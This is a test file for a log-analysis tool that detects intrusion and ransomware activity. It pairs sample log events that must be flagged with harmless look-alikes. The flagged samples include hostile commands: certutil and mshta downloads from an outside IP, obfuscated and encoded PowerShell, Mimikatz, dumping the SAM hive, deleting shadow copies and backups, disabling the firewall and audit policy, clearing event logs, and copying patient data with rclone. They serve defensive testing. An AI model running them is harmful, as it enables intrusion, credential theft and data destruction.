import { describe, expect, it } from 'vitest';
import { describeFinding, detectionTexts } from '#domain/evidence/content.ts';
import type { LogEvent } from '#domain/evidence/log-event.ts';
import { makeEvent } from '#tests/support/event-log-writer.ts';
import {
	analyze,
	failure,
	from,
	line,
	listUnread,
	powershell,
	registry,
	repeat,
	run,
	security,
	service,
	share,
	signIn,
	ssh,
	start,
	stopped,
	sysmon,
	system32,
	unnamed,
} from '#tests/support/log-events.ts';
import { type DetectionId, detectionIds, detections } from './all.ts';

const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const base64 = 'JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtACgA';

/** Each detection with records that must be found, and harmless ones that look alike. */
const cases: Record<DetectionId, { found: LogEvent[]; innocent: LogEvent[] }> = {
	'rdp-login-public': {
		found: [signIn('admin', '203.0.113.88', '10')],
		innocent: [signIn('admin', '192.168.1.20', '10')],
	},
	'rdp-gateway-login': {
		found: [
			from('Microsoft-Windows-TerminalServices-Gateway', 302, {
				Username: 'dana',
				IpAddress: '203.0.113.9',
				Resource: 'RDS01',
			}),
		],
		innocent: [
			from('Microsoft-Windows-TerminalServices-Gateway', 205, { Username: 'dana', IpAddress: '203.0.113.9' }),
		],
	},
	'rdp-probe': {
		found: repeat(3, (index) =>
			from('Microsoft-Windows-RemoteDesktopServices-RdpCoreTS', 131, { ClientIP: `203.0.113.${index}:5000` }),
		),
		innocent: repeat(3, () =>
			from('Microsoft-Windows-RemoteDesktopServices-RdpCoreTS', 131, { ClientIP: '192.168.1.5:5000' }),
		),
	},
	'guess-burst': {
		found: repeat(10, () => failure('admin', '203.0.113.88')),
		innocent: repeat(4, () => failure('dana', '192.168.1.5')),
	},
	'guess-spray': {
		found: repeat(5, (index) => failure(`user${index}`, '192.168.1.5')),
		innocent: repeat(5, () => failure('dana', '192.168.1.5')),
	},
	'guess-success': {
		found: [
			...repeat(10, () => failure('admin', '203.0.113.88')),
			signIn('admin', '203.0.113.88', '3', start + 60_000),
		],
		innocent: [
			...repeat(3, () => failure('dana', '192.168.1.5')),
			signIn('dana', '192.168.1.5', '2', start + 60_000),
		],
	},
	'network-login-public': {
		found: [signIn('dana', '198.51.100.7', '3')],
		innocent: [
			security(4624, {
				TargetUserName: 'ANONYMOUS LOGON',
				IpAddress: '198.51.100.7',
				LogonType: '3',
				TargetUserSid: 'S-1-5-7',
			}),
		],
	},
	'sql-guess': {
		found: repeat(5, () =>
			unnamed('MSSQLSERVER', 18_456, 'sa', ' Reason: wrong password', ' [CLIENT: 10.0.2.17]'),
		),
		innocent: repeat(2, () =>
			unnamed('MSSQLSERVER', 18_456, 'sa', ' Reason: wrong password', ' [CLIENT: 10.0.2.17]'),
		),
	},
	'sql-command': {
		found: [unnamed('MSSQLSERVER', 15_457, 'xp_cmdshell', '0', '1')],
		innocent: [unnamed('MSSQLSERVER', 15_457, 'xp_cmdshell', '1', '0')],
	},
	'web-shell': {
		found: [run('cmd.exe /c whoami', 'C:\\Windows\\System32\\inetsrv\\w3wp.exe')],
		innocent: [run('csc.exe /noconfig', 'C:\\Windows\\System32\\inetsrv\\w3wp.exe')],
	},
	'exchange-admin': {
		found: [
			makeEvent({
				provider: 'MSExchange CmdletLogs',
				channel: 'MSExchange Management',
				id: 1,
				values: ['New-MailboxExportRequest', '-FilePath \\\\127.0.0.1\\c$\\inetpub\\x.aspx'],
			}),
		],
		innocent: [
			makeEvent({
				provider: 'MSExchange CmdletLogs',
				channel: 'MSExchange Management',
				id: 1,
				values: ['New-MailboxExportRequest', '-FilePath \\\\nas\\export\\dana.pst'],
			}),
		],
	},
	'office-child': {
		found: [run('powershell.exe -nop -c x', word)],
		innocent: [
			run('rundll32.exe printui.dll,PrintUIEntry', word),
			run('cmd.exe /c dir', 'C:\\Users\\dana\\AppData\\Roaming\\WINWORD.exe'),
		],
	},
	'script-open': {
		found: [run('mshta.exe http://203.0.113.5/a.hta', 'C:\\Windows\\explorer.exe')],
		innocent: [
			run('wscript.exe \\\\dc01\\netlogon\\map.vbs'),
			run('rundll32.exe shell32.dll,Control_RunDLL'),
		],
	},
	'ssh-login': {
		found: [ssh('sshd: Accepted password for dana from 203.0.113.5 port 22 ssh2')],
		innocent: [ssh('sshd: Failed password for dana from 203.0.113.5 port 22 ssh2')],
	},
	'exploit-notice': {
		found: [from('Microsoft-Windows-Audit-CVE', 1, { CVEID: 'CVE-2020-0601' })],
		innocent: [from('Microsoft-Windows-Other', 1, { CVEID: 'CVE-2020-0601' })],
	},
	'remote-tool': {
		found: [service('AnyDesk', '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service')],
		innocent: [service('Spooler2', 'C:\\Windows\\System32\\spoolsv.exe')],
	},
	'download-tool': {
		found: [run('certutil.exe -urlcache -f http://203.0.113.5/a.exe a.exe')],
		innocent: [run('certutil.exe -hashfile E:\\Security.evtx SHA256')],
	},
	'ps-download': {
		found: [powershell("(New-Object Net.WebClient).('Down'+'loadString')('http://x')")],
		innocent: [powershell('Get-ChildItem E:\\PC1 | Get-FileHash')],
	},
	'ps-encoded': {
		found: [run(`powershell.exe -enc ${base64}`)],
		innocent: [
			run(
				'powershell.exe -ExecutionPolicy Bypass -File C:\\it\\inventory-of-all-computers-in-the-office.ps1',
			),
		],
	},
	'ps-attack-tool': {
		found: [powershell('Invoke-Mimikatz -DumpCreds')],
		innocent: [powershell('Get-Service')],
	},
	'bits-download': {
		found: [from('Microsoft-Windows-Bits-Client', 59, { url: 'http://203.0.113.5/a.exe' })],
		innocent: [from('Microsoft-Windows-Bits-Client', 59, { url: 'https://edgedl.me.gvt1.com/update.crx' })],
	},
	'service-suspicious': {
		found: [service('x', '%COMSPEC% /Q /c echo hi')],
		innocent: [service('Veeam', '"C:\\Program Files\\Veeam\\Veeam.exe"')],
	},
	'task-suspicious': {
		found: [security(4698, { TaskName: '\\upd', TaskContent: '<Command>powershell.exe</Command>' })],
		innocent: [
			security(4698, {
				TaskName: '\\GoogleUpdate',
				TaskContent: '<Command>C:\\Program Files\\Google\\u.exe</Command>',
			}),
		],
	},
	'wmi-persist': {
		found: [sysmon(20, { Name: 'x', Destination: 'cmd /c x' })],
		innocent: [sysmon(20, { Name: 'SCM Event Log Consumer', Destination: 'x' })],
	},
	'run-key': {
		found: [
			registry('HKU\\x\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd', 'C:\\Users\\Public\\a.exe'),
		],
		innocent: [
			registry(
				'HKU\\x\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Teams',
				'C:\\Program Files\\Teams\\t.exe',
			),
		],
	},
	'sticky-keys': {
		found: [
			registry(
				'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger',
				'cmd.exe',
			),
		],
		innocent: [
			registry(
				'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\calc.exe\\Debugger',
				'x',
			),
		],
	},
	'new-user': {
		found: [security(4720, { TargetUserName: 'svc_backup2', SubjectUserName: 'admin' })],
		innocent: [
			security(4720, { TargetUserName: 'PC7$', SubjectUserName: 'admin' }),
			security(4722, { TargetUserName: 'dana' }),
		],
	},
	'new-admin': {
		found: [
			security(4732, {
				TargetSid: 'S-1-5-32-544',
				MemberSid: 'S-1-5-21-1-2-3-1110',
				SubjectUserName: 'admin',
			}),
		],
		innocent: [
			security(4732, {
				TargetSid: 'S-1-5-32-545',
				MemberSid: 'S-1-5-21-1-2-3-1110',
				SubjectUserName: 'admin',
			}),
		],
	},
	'hidden-account': {
		found: [security(4720, { TargetUserName: 'backup$', SubjectUserName: 'admin' })],
		innocent: [security(4741, { TargetUserName: 'PC7$', SubjectUserName: 'admin' })],
	},
	'password-reset': {
		found: [
			security(4724, {
				TargetUserName: 'dana',
				TargetSid: 'S-1-5-21-1-2-3-1',
				SubjectUserName: 'it',
				SubjectUserSid: 'S-1-5-21-1-2-3-2',
			}),
		],
		innocent: [security(4723, { TargetUserName: 'dana', SubjectUserName: 'dana' })],
	},
	'rdp-enabled': {
		found: [
			registry(
				'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections',
				'DWORD (0x00000000)',
			),
		],
		innocent: [
			registry(
				'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections',
				'DWORD (0x00000001)',
			),
		],
	},
	'rdp-login-inside': { found: [signIn('it', '192.168.1.30', '10')], innocent: [signIn('it', '', '2')] },
	'rdp-tunnel': { found: [signIn('it', '127.0.0.1', '10')], innocent: [signIn('it', '127.0.0.1', '2')] },
	'rdp-hijack': {
		found: [service('x', 'cmd.exe /k tscon 2 /dest:rdp-tcp#1')],
		innocent: [run('tsdiscon.exe 2')],
	},
	psexec: {
		found: [service('PSEXESVC', '%SystemRoot%\\PSEXESVC.exe')],
		innocent: [share('\\\\*\\IPC$', 'spoolss')],
	},
	'remote-service': {
		found: [share('\\\\*\\IPC$', 'svcctl')],
		innocent: [share('\\\\*\\IPC$', 'svcctl', '127.0.0.1')],
	},
	'remote-exec': {
		found: [service('BTOBTO', '%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output 2^>^&1')],
		innocent: [run('cmd.exe /q /c dir C:\\')],
	},
	'winrm-remote': {
		found: [from('Microsoft-Windows-WinRM', 91, {})],
		innocent: [from('Microsoft-Windows-WinRM', 169, {})],
	},
	'wmi-remote': {
		found: [run('powershell.exe -c x', `${system32}wbem\\WmiPrvSE.exe`)],
		innocent: [run('wbemtest.exe', `${system32}wbem\\WmiPrvSE.exe`)],
	},
	'admin-share': { found: [share('\\\\*\\ADMIN$', 'x')], innocent: [share('\\\\*\\Documents', 'x')] },
	'pass-the-hash': {
		found: [security(4624, { LogonType: '9', LogonProcessName: 'seclogo', TargetUserName: 'it' })],
		innocent: [security(4624, { LogonType: '9', LogonProcessName: 'Advapi', TargetUserName: 'it' })],
	},
	'new-share': {
		found: [security(5142, { ShareName: '\\\\*\\x', ShareLocalPath: 'C:\\' })],
		innocent: [security(5143, { ShareName: '\\\\*\\x' })],
	},
	discovery: {
		found: [run('whoami.exe'), run('nltest.exe /dclist:'), run('systeminfo.exe')],
		innocent: [run('whoami.exe'), run('whoami.exe /all'), run('notepad.exe')],
	},
	'lsass-read': {
		found: [
			sysmon(10, {
				SourceImage: 'C:\\Users\\x\\p.exe',
				TargetImage: `${system32}lsass.exe`,
				GrantedAccess: '0x1410',
			}),
		],
		innocent: [
			sysmon(10, {
				SourceImage: 'C:\\ProgramData\\Microsoft\\Windows Defender\\MsMpEng.exe',
				TargetImage: `${system32}lsass.exe`,
				GrantedAccess: '0x1410',
			}),
		],
	},
	'sam-copy': {
		found: [run('reg.exe save hklm\\sam C:\\x')],
		innocent: [run('reg.exe save hklm\\software\\vendor C:\\x'), share('\\\\*\\IPC$', 'winreg')],
	},
	'ntds-copy': {
		found: [unnamed('ESENT', 325, 'lsass', 'C:\\Users\\x\\ntds.dit')],
		innocent: [unnamed('ESENT', 326, 'lsass', 'C:\\Windows\\NTDS\\ntds.dit')],
	},
	dcsync: {
		found: [
			security(4662, {
				AccessMask: '0x100',
				Properties: '{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}',
				SubjectUserName: 'dana',
			}),
		],
		innocent: [
			security(4662, {
				AccessMask: '0x100',
				Properties: '{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}',
				SubjectUserName: 'DC02$',
			}),
		],
	},
	kerberoast: {
		found: [
			security(4769, {
				TicketEncryptionType: '0x17',
				Status: '0x0',
				ServiceName: 'sqlsvc',
				TargetUserName: 'dana@OFFICE',
			}),
		],
		innocent: [
			security(4769, {
				TicketEncryptionType: '0x12',
				Status: '0x0',
				ServiceName: 'sqlsvc',
				TargetUserName: 'dana@OFFICE',
			}),
		],
	},
	'browser-passwords': {
		found: [
			security(4663, {
				ObjectName: 'C:\\Users\\d\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data',
				ProcessName: 'C:\\x\\l.exe',
			}),
		],
		innocent: [
			security(4663, {
				ObjectName: 'C:\\Users\\d\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data',
				ProcessName: 'C:\\Program Files\\Google\\chrome.exe',
			}),
		],
	},
	'dc-exploit': {
		found: [
			security(4742, {
				SubjectUserSid: 'S-1-5-7',
				SubjectUserName: 'ANONYMOUS LOGON',
				TargetUserName: 'DC01$',
			}),
		],
		innocent: [
			security(4742, { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'DC01$', TargetUserName: 'PC1$' }),
		],
	},
	'defender-off': {
		found: [from('Microsoft-Windows-Windows Defender', 5001, {})],
		innocent: [
			from('Microsoft-Windows-Windows Defender', 5007, {
				'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\SignatureUpdate = 0x1',
			}),
		],
	},
	'defender-exclusion': {
		found: [
			from('Microsoft-Windows-Windows Defender', 5007, {
				'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ = 0x0',
			}),
		],
		innocent: [
			from('Microsoft-Windows-Windows Defender', 5007, {
				'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Scan = 0x0',
			}),
		],
	},
	'defender-alert': {
		found: [
			from('Microsoft-Windows-Windows Defender', 1116, {
				'Threat Name': 'HackTool:Win32/Mimikatz',
				Path: 'file:_C:\\x.exe',
			}),
		],
		innocent: [from('Microsoft-Windows-Windows Defender', 1151, {})],
	},
	'driver-suspicious': {
		found: [service('RTCore64', 'C:\\Users\\Public\\RTCore64.sys', 'kernel mode driver')],
		innocent: [
			service(
				'MpKsl1',
				'C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\MpKslDrv.sys',
				'kernel mode driver',
			),
		],
	},
	'firewall-changed': {
		found: [run('netsh.exe advfirewall set allprofiles state off')],
		innocent: [run('netsh.exe advfirewall show allprofiles')],
	},
	'boot-change': {
		found: [run('bcdedit.exe /set {default} safeboot network')],
		innocent: [run('bcdedit.exe /deletevalue {default} safeboot')],
	},
	'audit-off': {
		found: [run('auditpol.exe /clear /y')],
		innocent: [security(4719, { AuditPolicyChanges: '%%8448', SubjectUserSid: 'S-1-5-18' })],
	},
	'settings-weakened': {
		found: [
			registry(
				'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\EnableLUA',
				'DWORD (0x00000000)',
			),
		],
		innocent: [
			registry(
				'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\EnableLUA',
				'DWORD (0x00000001)',
			),
		],
	},
	'gpo-change': {
		found: [security(5136, { ObjectClass: 'groupPolicyContainer', SubjectUserName: 'dana' })],
		innocent: [security(5136, { ObjectClass: 'user', SubjectUserName: 'dana' })],
	},
	'log-service-off': { found: [run('sc.exe stop eventlog')], innocent: [stopped('wuauserv')] },
	'shadow-delete': {
		found: [run('vssadmin.exe delete shadows /all /quiet')],
		innocent: [run('vssadmin.exe list shadows')],
	},
	'backup-delete': {
		found: [run('wbadmin.exe delete catalog -quiet')],
		innocent: [run('wbadmin.exe get versions')],
	},
	'recovery-off': {
		found: [run('bcdedit.exe /set {default} recoveryenabled no')],
		innocent: [run('bcdedit.exe /enum')],
	},
	'backup-stop': {
		found: [run('net.exe stop VeeamBackupSvc')],
		innocent: [run('net.exe stop spooler'), run('net.exe start VeeamBackupSvc')],
	},
	'copy-tool': {
		found: [run('rclone.exe copy D:\\Patients remote:x')],
		innocent: [run('robocopy.exe D:\\ E:\\')],
	},
	'archive-pack': {
		found: [run('7z.exe a -pSecret x.7z \\\\srv\\data')],
		innocent: [run('7z.exe x setup.7z')],
	},
	'bulk-read': {
		found: repeat(200, (index) => share('\\\\*\\Data', `f${index}.docx`)),
		innocent: repeat(50, (index) => share('\\\\*\\Data', `f${index}.docx`)),
	},
	'security-log-cleared': {
		found: [from('Microsoft-Windows-Eventlog', 1102, { SubjectUserName: 'admin' }, 'Security')],
		innocent: [from('Microsoft-Windows-TerminalServices-ClientActiveXCore', 1102, { Value: '10.0.0.1' })],
	},
	'other-log-cleared': {
		found: [
			from('Microsoft-Windows-Eventlog', 104, { SubjectUserName: 'admin', Channel: 'System' }, 'System'),
		],
		innocent: [from('Microsoft-Windows-RemoteDesktopServices-RdpCoreTS', 104, {})],
	},
	'clear-log-command': {
		found: [run('wevtutil.exe cl System')],
		innocent: [run('wevtutil.exe epl System E:\\PC1\\System.evtx')],
	},
	'time-changed': {
		found: [
			security(4616, {
				SubjectUserSid: 'S-1-5-21-1-2-3-1',
				PreviousTime: '2026-11-12T21:00:00Z',
				NewTime: '2026-11-10T21:00:00Z',
				ProcessName: 'C:\\x.exe',
			}),
		],
		innocent: [
			security(4616, {
				SubjectUserSid: 'S-1-5-19',
				PreviousTime: '2026-11-12T21:00:00Z',
				NewTime: '2026-11-10T21:00:00Z',
				ProcessName: `${system32}svchost.exe`,
			}),
		],
	},
	'mass-file-change': {
		found: repeat(200, (index) => share('\\\\*\\Data', `f${index}.locked`, '10.0.0.21', '%%4417')),
		innocent: repeat(200, () => share('\\\\*\\Data', 'same.docx', '10.0.0.21', '%%4417')),
	},
	'bitlocker-on': { found: [run('manage-bde.exe -on D:')], innocent: [run('manage-bde.exe -status')] },
	'vpn-login': {
		found: [security(6272, { SubjectUserName: 'dana', CallingStationID: '203.0.113.8', NASPortType: '5' })],
		innocent: [
			security(6272, { SubjectUserName: 'dana', CallingStationID: '00-11-22-33-44-55', NASPortType: '19' }),
		],
	},
	'vpn-guess-burst': {
		found: repeat(10, () => security(6273, { SubjectUserName: 'dana', CallingStationID: '203.0.113.8' })),
		innocent: repeat(9, () => security(6273, { SubjectUserName: 'dana', CallingStationID: '203.0.113.8' })),
	},
	'vpn-guess-success': {
		found: [
			...repeat(5, () => line('vpn-failure', { account: 'dana', address: '203.0.113.8' })),
			{
				...line('vpn-login', { account: 'dana', address: '203.0.113.8' }),
				time: start + 60_000,
				recordId: 9,
			},
		],
		innocent: [
			...repeat(4, () => line('vpn-failure', { account: 'dana', address: '203.0.113.8' })),
			{
				...line('vpn-login', { account: 'dana', address: '203.0.113.8' }),
				time: start + 60_000,
				recordId: 9,
			},
		],
	},
	'cloud-guess-success': {
		found: [
			...repeat(5, () => line('cloud-failure', { account: 'dana', address: '203.0.113.8' })),
			{
				...line('cloud-login', { account: 'dana', address: '203.0.113.8' }),
				time: start + 60_000,
				recordId: 9,
			},
		],
		innocent: [
			...repeat(4, () => line('cloud-failure', { account: 'dana', address: '203.0.113.8' })),
			{
				...line('cloud-login', { account: 'dana', address: '203.0.113.8' }),
				time: start + 60_000,
				recordId: 9,
			},
		],
	},
	'ssh-guess-success': {
		found: [
			...repeat(5, () => line('ssh-failure', { account: 'dana', address: '203.0.113.8' })),
			{
				...line('ssh-login', { account: 'dana', address: '203.0.113.8' }),
				time: start + 60_000,
				recordId: 9,
			},
		],
		innocent: [
			...repeat(4, () => line('ssh-failure', { account: 'dana', address: '203.0.113.8' })),
			{
				...line('ssh-login', { account: 'dana', address: '203.0.113.8' }),
				time: start + 60_000,
				recordId: 9,
			},
		],
	},
	'nas-guess-success': {
		found: [
			...repeat(5, () => line('nas-failure', { account: 'dana', address: '203.0.113.8' })),
			{
				...line('nas-login', { account: 'dana', address: '203.0.113.8' }),
				time: start + 60_000,
				recordId: 9,
			},
		],
		innocent: [
			...repeat(4, () => line('nas-failure', { account: 'dana', address: '203.0.113.8' })),
			{
				...line('nas-login', { account: 'dana', address: '203.0.113.8' }),
				time: start + 60_000,
				recordId: 9,
			},
		],
	},
	'esxi-guess-success': {
		found: [
			...repeat(5, () => line('host-failure', { account: 'dana', address: '203.0.113.8' })),
			{
				...line('host-login', { account: 'dana', address: '203.0.113.8' }),
				time: start + 60_000,
				recordId: 9,
			},
		],
		innocent: [
			...repeat(4, () => line('host-failure', { account: 'dana', address: '203.0.113.8' })),
			{
				...line('host-login', { account: 'dana', address: '203.0.113.8' }),
				time: start + 60_000,
				recordId: 9,
			},
		],
	},
	'device-admin-guess': {
		found: repeat(10, () => line('admin-failure', { account: 'dana', address: '203.0.113.8' })),
		innocent: repeat(9, () => line('admin-failure', { account: 'dana', address: '203.0.113.8' })),
	},
	'cloud-guess-burst': {
		found: repeat(10, () => line('cloud-failure', { account: 'dana', address: '203.0.113.8' })),
		innocent: repeat(9, () => line('cloud-failure', { account: 'dana', address: '203.0.113.8' })),
	},
	'ssh-guess-burst': {
		found: repeat(10, () => line('ssh-failure', { account: 'dana', address: '203.0.113.8' })),
		innocent: repeat(9, () => line('ssh-failure', { account: 'dana', address: '203.0.113.8' })),
	},
	'nas-guess-burst': {
		found: repeat(10, () => line('nas-failure', { account: 'dana', address: '203.0.113.8' })),
		innocent: repeat(9, () => line('nas-failure', { account: 'dana', address: '203.0.113.8' })),
	},
	'esxi-guess-burst': {
		found: repeat(10, () => line('host-failure', { account: 'dana', address: '203.0.113.8' })),
		innocent: repeat(9, () => line('host-failure', { account: 'dana', address: '203.0.113.8' })),
	},
	'device-admin-login': {
		found: [line('admin-login', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('admin-failure', { account: 'dana', address: '203.0.113.8' })],
	},
	'cloud-login': {
		found: [line('cloud-login', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('cloud-failure', { account: 'dana', address: '203.0.113.8' })],
	},
	'remote-tool-session': {
		found: [line('tool-session', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('tool-file', { account: 'dana', address: '203.0.113.8' })],
	},
	'nas-login': {
		found: [line('nas-login', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('nas-failure', { account: 'dana', address: '203.0.113.8' })],
	},
	'device-new-account': {
		found: [line('device-account', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('admin-login', { account: 'dana', address: '203.0.113.8' })],
	},
	'device-export': {
		found: [line('device-export', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('admin-login', { account: 'dana', address: '203.0.113.8' })],
	},
	'cloud-inbox-rule': {
		found: [line('cloud-rule', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('cloud-login', { account: 'dana', address: '203.0.113.8' })],
	},
	'cloud-mailbox-access': {
		found: [line('cloud-mailbox', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('cloud-login', { account: 'dana', address: '203.0.113.8' })],
	},
	'cloud-app-consent': {
		found: [line('cloud-consent', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('cloud-login', { account: 'dana', address: '203.0.113.8' })],
	},
	'cloud-app-secret': {
		found: [line('cloud-secret', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('cloud-login', { account: 'dana', address: '203.0.113.8' })],
	},
	'cloud-role-added': {
		found: [line('cloud-role', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('cloud-login', { account: 'dana', address: '203.0.113.8' })],
	},
	'cloud-password-reset': {
		found: [line('cloud-password', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('cloud-login', { account: 'dana', address: '203.0.113.8' })],
	},
	'cloud-new-method': {
		found: [line('cloud-method', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('cloud-login', { account: 'dana', address: '203.0.113.8' })],
	},
	'remote-tool-file': {
		found: [line('tool-file', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('tool-session', { account: 'dana', address: '203.0.113.8' })],
	},
	'esxi-login': {
		found: [line('host-login', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('host-failure', { account: 'dana', address: '203.0.113.8' })],
	},
	'esxi-ssh-enabled': {
		found: [line('host-ssh', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('host-login', { account: 'dana', address: '203.0.113.8' })],
	},
	'esxi-shell': {
		found: [line('host-shell', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('host-login', { account: 'dana', address: '203.0.113.8' })],
	},
	'ssh-key-added': {
		found: [line('ssh-key', { account: 'root', detail: 'tee authorized_keys' })],
		innocent: [line('host-shell', { account: 'root', detail: 'cat authorized_keys' })],
	},
	'esxi-vm-killed': {
		found: [line('vm-stop', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('host-shell', { account: 'dana', address: '203.0.113.8' })],
	},
	'esxi-snapshot-deleted': {
		found: [line('vm-snapshot', { account: 'dana', address: '203.0.113.8' })],
		innocent: [line('host-shell', { account: 'dana', address: '203.0.113.8' })],
	},
	'cloud-download': {
		found: repeat(100, (index) => line('cloud-download', { account: 'dana', detail: `${index}.xlsx` })),
		innocent: repeat(100, () => line('cloud-download', { account: 'dana', detail: 'one.xlsx' })),
	},
	'ssh-client': {
		found: [run('putty.exe -ssh root@10.0.0.60')],
		innocent: [run('putty.exe -load office')],
	},
	'veeam-passwords': {
		found: [powershell('[Veeam.Backup.Common.ProtectedStorage]::GetLocalString($password)')],
		innocent: [powershell('Get-VBRJob | Start-VBRJob')],
	},
	'vm-stop': {
		found: [powershell('Get-VM | Stop-VM -Force')],
		innocent: [powershell('Stop-VM -Name TEST')],
	},
	'gpo-task': {
		found: [
			share(
				'\\\\*\\SYSVOL',
				'office.local\\Policies\\31B2\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml',
				'10.0.0.21',
				'%%4417',
			),
		],
		innocent: [
			share(
				'\\\\*\\SYSVOL',
				'office.local\\Policies\\31B2\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml',
			),
		],
	},
};

describe.each(detectionIds)('%s', (id) => {
	it('finds the records and refers to them', () => {
		const finding = analyze(cases[id].found).find((other) => other.id === id);
		expect(finding?.records.length).toBeGreaterThan(0);
		expect(finding && describeFinding(finding)).toMatch(/^\S.*\.$/);
		expect(finding && describeFinding(finding)).not.toMatch(/\{\w+\}/);
	});

	it('does not report harmless records that look alike', () => {
		expect(analyze(cases[id].innocent).map((finding) => finding.id)).not.toContain(id);
	});

	it('has an innocent explanation, a source and a weight from 0 to 5', () => {
		expect(detectionTexts[id].innocent).toMatch(/\.$|\?$/);
		expect(detections[id].source).not.toBe('');
		expect(detections[id].weight ?? 0).toBeGreaterThanOrEqual(0);
		expect(detections[id].weight ?? 0).toBeLessThanOrEqual(5);
	});
});

it('weighs what points to the way in', () => {
	const byWeight = Map.groupBy(detectionIds, (id) => detections[id].weight ?? 0);
	byWeight.delete(0);
	expect(Object.fromEntries(byWeight)).toEqual({
		5: [
			'rdp-login-public',
			'guess-success',
			'web-shell',
			'office-child',
			'vpn-guess-success',
			'cloud-guess-success',
			'ssh-guess-success',
			'nas-guess-success',
		],
		4: ['rdp-gateway-login', 'network-login-public', 'sql-command', 'exchange-admin', 'cloud-login'],
		3: ['remote-tool', 'rdp-tunnel', 'vpn-login', 'remote-tool-session'],
		2: ['sql-guess', 'exploit-notice', 'dc-exploit', 'cloud-app-consent'],
		1: [
			'rdp-probe',
			'guess-burst',
			'guess-spray',
			'script-open',
			'download-tool',
			'ps-download',
			'ps-encoded',
			'ps-attack-tool',
			'bits-download',
			'service-suspicious',
			'task-suspicious',
			'wmi-persist',
			'sticky-keys',
			'rdp-enabled',
			'defender-alert',
			'vpn-guess-burst',
			'device-admin-login',
			'device-admin-guess',
			'cloud-guess-burst',
			'ssh-guess-burst',
			'nas-guess-burst',
		],
	});
});

it('is certain only of what a record states itself', () => {
	expect(detectionIds.filter((id) => detections[id].isStated)).toEqual([
		'defender-alert',
		'security-log-cleared',
		'other-log-cleared',
	]);
});

it.each(detectionIds)('%s reads no record of another log, nor one with the next number', (id) => {
	for (const events of listUnread(id, cases[id].found))
		expect(analyze(events).map((finding) => finding.id)).not.toContain(id);
});
